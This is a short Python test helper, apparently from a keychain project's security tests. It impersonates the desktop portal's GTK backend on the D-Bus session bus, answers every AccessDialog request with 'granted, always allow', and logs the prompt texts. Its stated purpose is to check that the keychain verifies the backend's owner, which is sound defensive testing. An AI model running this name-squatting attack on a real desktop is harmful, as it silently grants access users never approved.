#!/usr/bin/python3
"""An attacker of the user's that owns the desktop portal's backend name.

  portal_squatter.py NAME LOG
      Owns NAME (org.freedesktop.impl.portal.desktop.gtk) on the session bus, first or once its
      backend was killed, writes "owned" to LOG.ready, then answers every AccessDialog call
      "granted, always allow" and writes its texts to LOG. The keychain must not hand it the
      question: its backend's owner is checked as gcr's prompter's is.
"""
import sys

from jeepney import MessageType, new_method_return
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import open_dbus_connection


def main():
    name, log = sys.argv[1], sys.argv[2]
    conn = open_dbus_connection(bus='SESSION')
    granted = conn.send_and_get_reply(message_bus.RequestName(name, 2 | 4)).body[0]
    with open(log + '.ready', 'w') as ready:
        ready.write(f'owned {granted}\n')
    while True:
        msg = conn.receive()
        if msg.header.message_type != MessageType.method_call:
            continue
        if msg.header.fields.get(3) == 'AccessDialog':
            with open(log, 'a') as f:
                f.write('AccessDialog: ' + ' | '.join(str(part) for part in msg.body[3:6]) + '\n')
            conn.send(new_method_return(msg, 'ua{sv}', (0, {'choices': ('a(ss)', [('always', 'true')])})))
        else:
            conn.send(new_method_return(msg))


sys.exit(main())
